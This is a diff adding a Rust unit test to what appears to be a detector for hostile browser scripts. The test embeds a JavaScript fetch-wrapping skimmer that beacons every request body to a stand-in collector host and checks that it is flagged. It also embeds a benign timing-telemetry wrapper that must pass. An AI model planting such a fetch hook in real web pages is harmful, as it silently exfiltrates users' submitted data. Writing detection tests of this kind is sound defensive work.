@@ -1645,3 +1645,35 @@ module.exports = api;
         facts(adds)
     );
 }
+
+#[test]
+fn hooked_fetch_handing_bodies_to_a_beaconing_helper() {
+    // The wrapper hands what the page sends to a helper of the file that beacons it.
+    let src = r#"
+var collector = 'https://stats.invalid/e';
+function post(where, payload) {
+  navigator.sendBeacon(collector, JSON.stringify({ where: where, payload: String(payload) }));
+}
+var realFetch = window.fetch;
+window.fetch = function (resource, options) {
+  if (options && options.body) post(String(resource), options.body);
+  return realFetch.apply(this, arguments);
+};
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("request skimming")),
+        "{f:?}"
+    );
+    // Monitoring: the wrapper times requests and beacons durations it measured itself.
+    let timing = r#"
+function post(ms) { navigator.sendBeacon('/rum', JSON.stringify({ ms: ms })); }
+var realFetch = window.fetch;
+window.fetch = function (resource, options) {
+  var t0 = performance.now();
+  return realFetch.apply(this, arguments).then(function (r) { post(performance.now() - t0); return r; });
+};
+"#;
+    assert!(!kinds(timing).contains(&K::BrowserHijack), "{:?}", facts(timing));
+}
